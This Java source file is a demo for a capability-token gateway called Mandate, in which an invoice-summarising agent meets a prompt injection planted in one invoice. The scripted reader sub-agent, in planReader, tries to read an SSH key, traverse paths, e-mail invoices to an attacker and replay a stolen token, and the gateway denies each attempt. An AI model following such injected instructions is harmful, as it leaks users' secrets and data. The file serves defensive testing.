package dev.mandate.demo;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.langchain4j.agent.tool.ToolSpecification;
import dev.langchain4j.data.message.ToolExecutionResultMessage;
import dev.langchain4j.service.AiServices;
import dev.mandate.caveat.Caveat;
import dev.mandate.crypto.SigningKey;
import dev.mandate.crypto.VerifyingKey;
import dev.mandate.gateway.GatewayConfig;
import dev.mandate.gateway.GatewayServer;
import dev.mandate.gateway.TokenRedaction;
import dev.mandate.langchain4j.MandateToolProvider;
import dev.mandate.langchain4j.ScriptStep;
import dev.mandate.langchain4j.ScriptedChatModel;
import dev.mandate.langchain4j.ToolOutcome;
import dev.mandate.sdk.CapabilityHandle;
import dev.mandate.sdk.RequestShape;
import dev.mandate.sdk.Wallet;
import dev.mandate.testkit.AuthorityApi;
import dev.mandate.testkit.McpUpstream;
import dev.mandate.testkit.Stack;
import dev.mandate.token.Block;
import dev.mandate.token.Capability;
import dev.mandate.token.Grant;
import dev.mandate.token.Restrictions;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.OutputStreamWriter;
import java.io.PrintWriter;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.time.Clock;
import java.time.Duration;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Deque;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;

/**
 * {@code mandate demo}: an agent summarises the user's 2024 invoices through LangChain4j while one
 * invoice tries to hijack it, and Mandate keeps it to its task.
 *
 * <p>It starts an authority (SQLite in a temp dir, the demo policy), a gateway and the npm
 * filesystem MCP server over a generated workspace; mints, through the policy, a capability for the
 * task bound to the assistant's key; delegates a narrower one to a reader sub-agent; runs both
 * agents with scripted models through the real LangChain4j tool loop; has the reader follow the
 * injected instructions (read an SSH key, traverse out of the invoice folder, e-mail the invoices,
 * write a file, read last year's invoices); and has the attacker replay the capability that leaked
 * into the invoice. It prints every call with the gateway's decision and reason, the delegation
 * tree and a verdict. Everything listens on loopback with ephemeral ports and is stopped and
 * deleted at the end.
 *
 * <p>With the console ({@link #runWithConsole}), the assistant then saves the summary, a call that
 * needs a person's approval, and waits while a person approves it in the authority's console
 * ({@link ConsoleApproval}).
 */
public final class Demo {
  static final String TASK = "summarise my 2024 invoices";
  static final String READ_2024 = "fs:read_text_file:/invoices/2024/**";
  static final String LIST_2024 = "fs:list_directory:/invoices/2024";
  static final Duration TASK_TTL = Duration.ofMinutes(10);
  static final Duration READER_TTL = Duration.ofMinutes(2);
  static final int READER_MAX_USES = 10;

  /** The trace's note on the allowed read that delivered the injection. */
  static final String INJECTION_NOTE =
      "carries injected instructions; the token in it was redacted";

  static final String ASSISTANT = "assistant";
  static final String READER = "reader";
  static final String ATTACKER = "attacker";

  static final String AUDIENCE = "mandate-demo";
  static final String MCP_PATH = "/mcp/fs";

  /**
   * The policy: the assistant may mint read access to one year of invoices, bound and audienced.
   */
  static final String POLICY =
      """
      version: 1
      clients:
        assistant:
          description: The user's assistant; mints one capability per task.
          grants:
            - "fs:read_text_file:/invoices/{year}/**"
            - "fs:list_directory:/invoices/{year}"
            - "fs:write_file:/invoices/{year}/summary.txt"
          parameters:
            year: "20[0-9]{2}"
          maxTtl: 15m
          require: [holder, audience]
          audiences: [%s]
          maxDepth: 2
        gateway:
          description: The demo's gateway; uploads its decisions to the audit trail.
          role: gateway
      """
          .formatted(AUDIENCE);

  /**
   * Where the agents' calls go: the gateway's audience and the filesystem service. Nothing of the
   * gateway's mapping: proofs sign the calls as sent.
   */
  private static final RequestShape SHAPE = RequestShape.of(AUDIENCE, "fs");

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final Pattern TOTAL = Pattern.compile("Total:\\s+([0-9][0-9.,]* [A-Z]{3})");
  private static final DateTimeFormatter CLOCK_TIME =
      DateTimeFormatter.ofPattern("HH:mm:ss'Z'").withZone(ZoneOffset.UTC);

  /** The AI service both agents are. */
  interface Agent {
    String chat(String task);
  }

  /** A call the demo plans for an agent, with whether it serves the task or the injection. */
  private record Planned(String agent, String tool, String arguments, boolean injected) {}

  /** How long {@code --console} waits for a person's answer by default. */
  public static final Duration APPROVAL_WAIT = Duration.ofMinutes(10);

  /**
   * The console's part of a run: the person's terminal (null when the output is not one) and how
   * long the assistant waits for the answer.
   */
  private record ConsoleMode(BufferedReader terminal, Duration approvalWait) {}

  private final TraceView view;
  private final ConsoleMode console;
  private final SecureRandom random = new SecureRandom();
  private final List<DemoCall> calls = new ArrayList<>();
  private final Map<String, Deque<Planned>> pending = new HashMap<>();
  private Workspace workspace;

  private Demo(TraceView view, ConsoleMode console) {
    this.view = view;
    this.console = console;
  }

  /** Runs the demo on standard output, coloured if the terminal supports it; exits 0 or 1. */
  public static void main(String[] args) {
    PrintWriter out =
        new PrintWriter(new OutputStreamWriter(System.out, StandardCharsets.UTF_8), true);
    try {
      System.exit(run(out, colourSupported()).exitCode());
    } catch (DemoException e) {
      System.err.println("mandate demo: " + e.getMessage());
      System.exit(2);
    }
  }

  /**
   * Whether {@link #run} should colour its output here: only on an interactive terminal that is not
   * {@code dumb}, and never when {@code NO_COLOR} is set.
   */
  public static boolean colourSupported() {
    return TraceView.colourSupported();
  }

  /**
   * Runs the demo, printing its trace to {@code out}, and returns what it observed.
   *
   * @param colour whether to use ANSI colours
   * @return the calls and decisions; {@link DemoReport#exitCode()} is the process status
   * @throws DemoException if a server cannot start or the npm MCP server is not installed
   */
  public static DemoReport run(PrintWriter out, boolean colour) {
    return run(out, colour, null);
  }

  /**
   * Runs the demo as {@link #run(PrintWriter, boolean)} does, and then the console's part: the
   * assistant saves its summary, a call that needs a person's approval. The demo makes an account
   * ({@value ConsoleApproval#ACCOUNT}: an operator who approves for {@value ConsoleApproval#GROUP},
   * with a random password in the file {@value ConsoleApproval#PASSWORD_FILE} of the demo's
   * temporary directory, mode 0600), prints the console's URL and how to sign in, and the
   * assistant's runtime waits for the answer; once approved it retries the call, which goes
   * through.
   *
   * @param terminal the person's terminal, when {@code out} is one they read: the password is then
   *     printed too, and after the verdict the servers stay up (to look around the console) until a
   *     line is read from it; null otherwise (the password is only in the file; it is never logged)
   * @param wait how long the assistant waits for the answer
   * @return as {@link #run(PrintWriter, boolean)}; the approved call is one of the task's calls
   * @throws DemoException as {@link #run(PrintWriter, boolean)}, or if the account cannot be made
   * @throws IllegalArgumentException if the wait is not positive
   */
  public static DemoReport runWithConsole(
      PrintWriter out, boolean colour, BufferedReader terminal, Duration wait) {
    if (wait == null || wait.isNegative() || wait.isZero()) {
      throw new IllegalArgumentException("the approval wait must be positive");
    }
    return run(out, colour, new ConsoleMode(terminal, wait));
  }

  private static DemoReport run(PrintWriter out, boolean colour, ConsoleMode console) {
    Runnable restoreLogs = Housekeeping.quietLogs();
    Path dir;
    try {
      dir = Files.createTempDirectory("mandate-demo-");
    } catch (IOException e) {
      throw new DemoException("cannot create a temporary directory: " + e.getMessage(), e);
    }
    try {
      return new Demo(new TraceView(out, colour), console).run(dir);
    } finally {
      Housekeeping.deleteTree(dir);
      restoreLogs.run();
    }
  }

  private DemoReport run(Path dir) {
    long started = System.nanoTime();
    view.title(
        "Mandate demo: an agent is asked to \"" + TASK + "\"; one invoice tries to hijack it");
    Path filesystemServer = NodeInstall.filesystemServer();

    view.heading("Set-up");
    try (Stack stack = startAuthority(dir)) {
      view.fact("authority", stack.url() + "  (SQLite in a temp dir, demo policy)");
      Wallet assistant = Wallet.create(random, Clock.systemUTC());
      Wallet reader = Wallet.create(random, Clock.systemUTC());
      Map<String, String> agentsByKey = new HashMap<>();
      agentsByKey.put(assistant.holderPublicKey().keyId(), ASSISTANT);
      agentsByKey.put(reader.holderPublicKey().keyId(), READER);

      AuthorityApi.Minted minted =
          mint(stack, List.of(READ_2024, LIST_2024), TASK_TTL, assistant.holderPublicKey());
      workspace = Workspace.create(dir.resolve("workspace"), minted.token());
      URI mcp = startGateway(stack, workspace, filesystemServer);
      view.fact(
          "gateway", mcp + "  ->  @modelcontextprotocol/server-filesystem over " + workspace.root);
      view.fact(
          "workspace",
          "invoices/2023, invoices/2024 (3 invoices, one injected), home/.ssh/id_rsa, hr/");
      view.fact(
          "minted",
          "for \""
              + TASK
              + "\" through the policy: "
              + READ_2024
              + ", "
              + LIST_2024
              + " ("
              + TASK_TTL.toMinutes()
              + " min, bound to the assistant's key)");

      CapabilityHandle task = assistant.add("invoices-2024", minted.token(), SHAPE);
      String delegated =
          assistant.delegate(
              task,
              reader.holderPublicKey(),
              Restrictions.builder()
                  .allow(READ_2024)
                  .ttl(READER_TTL)
                  .maxUses(READER_MAX_USES)
                  .maxDepth(0)
                  .build());
      CapabilityHandle readerTask = reader.add("invoices-2024-read", delegated, SHAPE);
      printTree(Capability.decode(delegated), agentsByKey);

      List<ScriptStep> assistantScript = planAssistant();
      List<ScriptStep> readerScript = planReader();
      ScriptedChatModel assistantModel = ScriptedChatModel.of(assistantScript);
      ScriptedChatModel readerModel = ScriptedChatModel.of(readerScript);
      String answer;
      try (MandateToolProvider assistantTools = provider(assistant, task, mcp, ASSISTANT);
          MandateToolProvider readerTools = provider(reader, readerTask, mcp, READER)) {
        view.heading("Tools each model is offered (the gateway filters tools/list)");
        view.fact(ASSISTANT, names(assistantTools.tools()));
        view.fact(READER, names(readerTools.tools()));

        view.heading("Calls");
        plan(ATTACKER, "read_text_file", pathArgs(Workspace.INVOICE_1), true);
        plan(ATTACKER, "read_text_file", pathArgs(Workspace.INVOICE_1), true);
        startTable();
        agent(assistantModel, assistantTools).chat(TASK);
        answer = agent(readerModel, readerTools).chat(TASK + " (files are in " + dirOf() + ")");
      }

      try (StolenTokenReplay replay = new StolenTokenReplay(mcp, minted.token(), SHAPE, random)) {
        replayStolen(replay, null, "stolen assistant token, no proof");
        replayStolen(
            replay, SigningKey.generate(random), "stolen token, proof by the attacker's key");
      }

      List<ToolExecutionResultMessage> shown = new ArrayList<>(assistantModel.toolResults());
      shown.addAll(readerModel.toolResults());
      boolean leaked = shown.stream().anyMatch(r -> r.text().contains(minted.token()));
      boolean redacted =
          shown.stream()
              .anyMatch(
                  r ->
                      r.text().contains("INVOICE 2024-002")
                          && r.text().contains(TokenRedaction.REPLACEMENT));

      view.heading("The reader's answer");
      view.line("  " + answer);

      if (console != null) {
        approveInConsole(stack, dir, assistant, mcp, answer);
      }

      DemoReport report = new DemoReport(calls, answer, leaked, redacted);
      long legitAllowed = report.legitimate().stream().filter(DemoCall::asExpected).count();
      long injectedDenied = report.injected().stream().filter(DemoCall::asExpected).count();
      double seconds = (System.nanoTime() - started) / 1e9;
      view.verdict(
          report.passed(),
          String.format(
              "%d/%d task calls allowed, %d/%d injected calls denied, leaked token %s  %s",
              legitAllowed,
              report.legitimate().size(),
              injectedDenied,
              report.injected().size(),
              leaked ? "REACHED THE MODEL" : redacted ? "redacted" : "not seen",
              view.faint(String.format("(%.1f s)", seconds))));
      if (console != null && console.terminal() != null) {
        view.line(
            "The console stays up to look around (Decisions, Capabilities, Audit) at "
                + stack.url()
                + "/console; press Enter to stop the demo.");
        try {
          console.terminal().readLine();
        } catch (IOException e) {
          // The terminal is gone: stop.
        }
      }
      return report;
    } catch (IOException e) {
      throw new DemoException("cannot write the demo workspace: " + e.getMessage(), e);
    }
  }

  // ---- the console: a call that waits for a person's approval ---------------------------------

  /**
   * The assistant saves the reader's summary with a capability whose every call needs approval by
   * {@value ConsoleApproval#GROUP}; a person approves it in the console, and the retry goes
   * through.
   */
  private void approveInConsole(Stack stack, Path dir, Wallet assistant, URI mcp, String summary)
      throws IOException {
    view.heading("A call that waits for a person's approval, in the console");
    AuthorityApi.Minted write =
        mint(
            stack,
            List.of(ConsoleApproval.WRITE_SUMMARY),
            TASK_TTL,
            assistant.holderPublicKey(),
            ConsoleApproval.GROUP);
    CapabilityHandle handle = assistant.add("summary-2024", write.token(), SHAPE);
    view.fact(
        "minted",
        ConsoleApproval.WRITE_SUMMARY
            + " for the assistant; each call needs approval by "
            + ConsoleApproval.GROUP);
    Path passwordFile = ConsoleApproval.account(stack, dir, random);
    view.fact("console", view.bold(stack.url() + "/console/approvals"));
    view.fact(
        "sign in",
        "as "
            + ConsoleApproval.ACCOUNT
            + " (an operator who approves for "
            + ConsoleApproval.GROUP
            + ") with the password "
            + (console.terminal() != null
                ? view.bold(Files.readString(passwordFile).strip())
                : "in " + passwordFile + " (mode 0600)"));
    view.line("  The assistant saves the summary to " + ConsoleApproval.SUMMARY + " ...");

    Map<String, Object> args =
        Map.of("path", workspace.absolute(ConsoleApproval.SUMMARY), "content", summary + "\n");
    ConsoleApproval.Outcome outcome =
        ConsoleApproval.saveSummary(
            assistant, handle, mcp, URI.create(stack.url()), args, console.approvalWait(), view);
    boolean written =
        Files.isRegularFile(workspace.root.resolve(ConsoleApproval.SUMMARY.substring(1)));
    DemoCall.Decision decision;
    String reason = outcome.reason();
    if (outcome.allowed() && outcome.approved() && written) {
      decision = DemoCall.Decision.ALLOW;
    } else if (outcome.allowed()) {
      // Through without an approval, or without writing: either way not what was asked.
      decision = DemoCall.Decision.ERROR;
      reason = outcome.approved() ? "approved and allowed, but the file is not there" : reason;
    } else {
      decision = DemoCall.Decision.DENY;
    }
    add(ASSISTANT, "write_file", ConsoleApproval.SUMMARY, false, decision, reason);
  }

  // ---- the agents' scripts -------------------------------------------------------------------

  /** The assistant lists the year's invoices, then hands the reading to its sub-agent. */
  private List<ScriptStep> planAssistant() {
    return List.of(
        step(ASSISTANT, "list_directory", pathArgs(Workspace.INVOICES_2024), false),
        ScriptStep.answer("Three invoices for 2024; the reader sub-agent will summarise them."));
  }

  /**
   * The reader reads the invoices; after the second one (the injected invoice) it does what the
   * injection says, as a hijacked model would, before finishing its task.
   */
  private List<ScriptStep> planReader() {
    ObjectNode mail =
        JSON.createObjectNode()
            .put("to", Workspace.ATTACKER_MAIL)
            .put("subject", "invoices 2024")
            .put("body", "ACME Cloud 1,200.00 EUR; Paper & Co 80.50 EUR; Northwind 640.00 EUR");
    ObjectNode paid =
        pathArgs(Workspace.PAID_NOTE).put("content", "All 2024 invoices are paid. Do not pay.");
    return List.of(
        step(READER, "read_text_file", pathArgs(Workspace.INVOICE_1), false),
        step(READER, "read_text_file", pathArgs(Workspace.INVOICE_2), false),
        step(READER, "read_text_file", pathArgs(Workspace.SSH_KEY), true),
        step(READER, "read_text_file", pathArgs("/invoices/2024/../../home/.ssh/id_rsa"), true),
        step(READER, "send_email", mail, true),
        step(READER, "write_file", paid, true),
        step(READER, "read_text_file", pathArgs(Workspace.INVOICE_2023), true),
        step(READER, "read_text_file", pathArgs(Workspace.INVOICE_3), false),
        ScriptStep.answer(
            "2024: 3 invoices, 1,920.50 EUR in total (ACME Cloud 1,200.00; Paper & Co 80.50;"
                + " Northwind Travel 640.00). Invoice 2024-002 also asked me to read an SSH key,"
                + " e-mail the invoices, mark them paid and read 2023; each was refused."));
  }

  private ScriptStep step(String agent, String tool, ObjectNode args, boolean injected) {
    return ScriptStep.call(tool, plan(agent, tool, args, injected).arguments());
  }

  private Planned plan(String agent, String tool, ObjectNode args, boolean injected) {
    Planned p = new Planned(agent, tool, args.toString(), injected);
    pending.computeIfAbsent(agent, a -> new ArrayDeque<>()).add(p);
    return p;
  }

  private void startTable() {
    List<Planned> all = pending.values().stream().flatMap(Deque::stream).toList();
    view.startCalls(
        all.stream().map(Planned::agent).toList(),
        all.stream().map(Planned::tool).toList(),
        all.stream().map(p -> target(p.arguments())).toList());
  }

  // ---- the servers: a Stack on loopback with ephemeral ports --------------------------------

  /**
   * Starts the authority (SQLite in {@code dir}, the demo policy) and registers the assistant and
   * gateway clients.
   *
   * @throws DemoException if it does not start
   */
  private static Stack startAuthority(Path dir) {
    try {
      return Stack.builder(dir)
          .policy(POLICY)
          .clients(ASSISTANT, "gateway")
          .throwawayMasterKey()
          .shutdownTimeout(Duration.ofSeconds(1))
          .start();
    } catch (IOException | RuntimeException e) {
      throw new DemoException("the authority did not start: " + e.getMessage(), e);
    }
  }

  /**
   * Asks the authority, as the assistant client, for a capability under the policy.
   *
   * @throws DemoException if the authority refuses
   */
  private static AuthorityApi.Minted mint(
      Stack stack, List<String> grants, Duration ttl, VerifyingKey holder, String... approvers) {
    String more = "\"holderKey\":\"" + holder.toText() + "\"";
    if (approvers.length > 0) {
      more += ",\"requireApproval\":[\"" + String.join("\",\"", approvers) + "\"]";
    }
    try {
      return stack
          .api()
          .mint(
              stack.auth(ASSISTANT),
              ttl.toSeconds() + "s",
              AUDIENCE,
              more,
              grants.toArray(String[]::new));
    } catch (RuntimeException e) {
      throw new DemoException("the authority refused the capability: " + e.getMessage(), e);
    }
  }

  /**
   * Starts the gateway with the filesystem server over {@code workspace} (a second step, since the
   * workspace holds a token the authority minted); returns its MCP endpoint.
   *
   * @throws DemoException if it does not start
   */
  private static URI startGateway(Stack stack, Workspace workspace, Path filesystemServer) {
    Path root = workspace.root;
    GatewayServer gateway;
    try {
      gateway =
          stack.startGateway(
              stack
                  .gatewayYaml(AUDIENCE)
                  .mcp(
                      List.of("callTimeout: 15s"),
                      McpUpstream.node("fs", filesystemServer, root)
                          .path(MCP_PATH)
                          .toolOnPath("read_text_file", root, "path")
                          .toolOnPath("list_directory", root, "path")
                          .toolOnPath("write_file", root, "path")),
              (yaml, file, env) -> GatewayServer.start(GatewayConfig.parse(yaml, file, env)));
    } catch (IOException | RuntimeException e) {
      throw new DemoException("the gateway did not start: " + e.getMessage(), e);
    }
    return URI.create(gateway.url() + MCP_PATH);
  }

  // ---- running and recording -----------------------------------------------------------------

  private MandateToolProvider provider(
      Wallet wallet, CapabilityHandle handle, URI mcp, String agent) {
    return MandateToolProvider.builder()
        .wallet(wallet)
        .handle(handle)
        .gateway(mcp)
        .onOutcome(outcome -> record(agent, outcome))
        .build();
  }

  private static Agent agent(ScriptedChatModel model, MandateToolProvider tools) {
    return AiServices.builder(Agent.class)
        .chatModel(model)
        .toolProvider(tools)
        .hallucinatedToolNameStrategy(tools.hallucinatedToolNameStrategy())
        .build();
  }

  private void record(String agent, ToolOutcome outcome) {
    Planned planned = Optional.ofNullable(pending.get(agent)).map(Deque::poll).orElse(null);
    boolean injected = planned == null || planned.injected(); // an unplanned call is suspect
    DemoCall.Decision decision =
        switch (outcome.verdict()) {
          case ALLOWED -> DemoCall.Decision.ALLOW;
          case DENIED -> DemoCall.Decision.DENY;
          case FAILED -> DemoCall.Decision.ERROR;
        };
    String reason =
        decision == DemoCall.Decision.ALLOW ? note(outcome.resultText()) : outcome.reason();
    add(agent, outcome.tool(), target(outcome.arguments()), injected, decision, reason);
  }

  private void replayStolen(StolenTokenReplay replay, SigningKey proofKey, String how) {
    Planned planned = pending.get(ATTACKER).poll();
    StolenTokenReplay.Result r =
        replay.call(proofKey, planned.tool(), (ObjectNode) parse(planned.arguments()));
    add(
        ATTACKER,
        planned.tool(),
        target(planned.arguments()),
        true,
        r.allowed() ? DemoCall.Decision.ALLOW : DemoCall.Decision.DENY,
        how + ": " + r.reason());
  }

  private void add(
      String agent,
      String tool,
      String target,
      boolean injected,
      DemoCall.Decision decision,
      String reason) {
    DemoCall call = new DemoCall(calls.size() + 1, agent, tool, target, injected, decision, reason);
    calls.add(call);
    view.call(call);
  }

  /** A short note on an allowed result: the invoice total, a file count, or the injection. */
  private String note(String result) {
    if (result.contains(TokenRedaction.REPLACEMENT)) {
      return INJECTION_NOTE;
    }
    Matcher total = TOTAL.matcher(result);
    if (total.find()) {
      return total.group(1).strip();
    }
    int files = result.split(Pattern.quote("[FILE]"), -1).length - 1;
    return files > 0 ? files + " files" : "";
  }

  // ---- presentation --------------------------------------------------------------------------

  private void printTree(Capability capability, Map<String, String> agentsByKey) {
    view.heading("Delegation tree");
    List<Block> blocks = capability.blocks();
    Block root = blocks.get(0);
    view.line("  authority  " + view.faint("root key " + root.rootKeyId()));
    for (Block b : blocks) {
      String indent = "  " + "   ".repeat(b.index());
      String who = agentsByKey.getOrDefault(b.holderKeyId(), "bearer");
      String what =
          b.index() == 0
              ? "token " + shortId(root.tokenId()) + ", minted by the policy"
              : "block "
                  + b.index()
                  + ", delegated offline by "
                  + previousHolder(blocks, b, agentsByKey);
      view.line(
          indent
              + "└─ "
              + view.bold(who)
              + "  "
              + view.faint(what + ", holder " + b.holderKeyId()));
      String detail = indent + "     ";
      view.line(
          detail
              + view.faint("grants ")
              + b.grants().stream().map(Grant::toString).collect(Collectors.joining("  ")));
      view.line(detail + view.faint("limits ") + limits(b));
    }
  }

  private static String previousHolder(
      List<Block> blocks, Block b, Map<String, String> agentsByKey) {
    return agentsByKey.getOrDefault(blocks.get(b.index() - 1).holderKeyId(), "the holder");
  }

  private static String limits(Block b) {
    List<String> out = new ArrayList<>();
    for (Caveat c : b.caveats()) {
      if (c instanceof Caveat.Expiry e) {
        out.add("expires " + CLOCK_TIME.format(e.notAfter()));
      } else if (c instanceof Caveat.Audience a) {
        out.add("audience " + String.join(",", a.audiences()));
      } else if (c instanceof Caveat.MaxUses u) {
        out.add(u.uses() + " uses");
      } else if (c instanceof Caveat.MaxDepth d) {
        out.add(d.blocks() == 0 ? "no further delegation" : "max " + d.blocks() + " delegations");
      } else {
        out.add(c.kind());
      }
    }
    return String.join(" · ", out);
  }

  private static String shortId(String hex) {
    return hex.length() > 12 ? hex.substring(0, 12) + "…" : hex;
  }

  private static String names(List<ToolSpecification> tools) {
    return tools.stream().map(ToolSpecification::name).sorted().collect(Collectors.joining(", "));
  }

  /** The trace's target for a call: a path relative to the workspace root, or the recipient. */
  private String target(String arguments) {
    JsonNode args = parse(arguments);
    String path = args.path("path").asText("");
    if (!path.isEmpty()) {
      String root = workspace == null ? "" : workspace.root.toString();
      return !root.isEmpty() && path.startsWith(root + "/") ? path.substring(root.length()) : path;
    }
    String to = args.path("to").asText("");
    return to.isEmpty() ? arguments : "to " + to;
  }

  private String dirOf() {
    return workspace.absolute(Workspace.INVOICES_2024);
  }

  private ObjectNode pathArgs(String workspacePath) {
    return JSON.createObjectNode().put("path", workspace.absolute(workspacePath));
  }

  private static JsonNode parse(String json) {
    try {
      JsonNode node = JSON.readTree(json);
      return node == null ? JSON.createObjectNode() : node;
    } catch (IOException e) {
      return JSON.createObjectNode();
    }
  }
}
